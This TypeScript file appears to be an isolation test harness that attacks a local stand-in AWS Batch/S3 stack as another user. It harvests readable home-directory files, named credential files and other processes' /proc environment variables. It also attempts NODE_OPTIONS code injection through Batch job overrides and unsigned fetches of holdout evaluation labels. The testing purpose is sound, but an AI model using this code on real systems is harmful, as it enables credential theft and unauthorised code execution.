/**
 * Attacks a running stack as another user of the machine: `intruder.mjs PLAN`, with a {@link Plan} as JSON. Prints a
 * {@link Loot} as JSON. Bundled, since that user may see neither packages nor sources.
 */
import { BatchClient, RegisterJobDefinitionCommand, SubmitJobCommand } from '@aws-sdk/client-batch';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';

export interface Plan {
  home: string;
  batch: string;
  s3: string;
  /** Key of the Batch endpoint, guessed or real. */
  credential: { accessKeyId: string; secretAccessKey: string };
  /** A module that records the user who runs it. */
  module: string;
}

export interface Loot {
  /** Everything readable in the home and in /proc. */
  text: string;
  /** The result of each request: its HTTP status, and the error's name. */
  results: Record<string, string>;
}

const plan = JSON.parse(process.argv[2] ?? '') as Plan;

function readAll(path: string): string {
  try {
    if (!statSync(path).isDirectory()) return readFileSync(path, 'latin1');
    return readdirSync(path)
      .map((name) => `${name}\n${readAll(join(path, name))}`)
      .join('');
  } catch {
    return '';
  }
}

/** Files read by name: a folder that cannot be listed may still be entered. */
const known = ['credentials.json', 'batch/start-up.json', 's3-accounts/users.json', 's3/holdout-labels/c/labels.csv'];
const processes = readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid);
const text = [
  readAll(plan.home),
  ...known.map((name) => readAll(join(plan.home, name))),
  ...processes.flatMap((pid) => ['environ', 'cmdline'].map((file) => readAll(`/proc/${pid}/${file}`))),
].join('\n');

const client = new BatchClient({
  endpoint: plan.batch,
  region: 'us-east-1',
  credentials: plan.credential,
  maxAttempts: 1,
});
const job = { jobName: 'intruder', jobQueue: 'q', jobDefinition: 'stand-in' };
const variable = (name: string, value: string) => [{ name, value }];
const nodeOptions = variable('NODE_OPTIONS', `--import=${plan.module}`);
const sent = async (send: () => Promise<{ $metadata: { httpStatusCode?: number | undefined } }>): Promise<string> => {
  try {
    return String((await send()).$metadata.httpStatusCode);
  } catch (error) {
    const { name, $metadata } = error as { name: string; $metadata?: { httpStatusCode?: number } };
    return `${$metadata?.httpStatusCode} ${name}`;
  }
};
const fetched = async (url: string, init?: RequestInit): Promise<string> => String((await fetch(url, init)).status);

const results = {
  'a job': await sent(() =>
    client.send(
      new SubmitJobCommand({ ...job, containerOverrides: { environment: variable('HOLDOUT_RUN_KEY', 'c/s/9') } }),
    ),
  ),
  'a job with NODE_OPTIONS': await sent(() =>
    client.send(new SubmitJobCommand({ ...job, containerOverrides: { environment: nodeOptions } })),
  ),
  'a definition with NODE_OPTIONS': await sent(() =>
    client.send(
      new RegisterJobDefinitionCommand({
        jobDefinitionName: 'intruder',
        type: 'container',
        containerProperties: {
          image: 'x',
          environment: nodeOptions,
          resourceRequirements: [
            { type: 'VCPU', value: '1' },
            { type: 'MEMORY', value: '64' },
          ],
        },
      }),
    ),
  ),
  'a job without a signature': await fetched(`${plan.batch}/v1/submitjob`, {
    method: 'POST',
    body: JSON.stringify(job),
  }),
  'the labels without a signature': await fetched(`${plan.s3}/holdout-labels/c/labels.csv`),
};

process.stdout.write(JSON.stringify({ text, results } satisfies Loot));
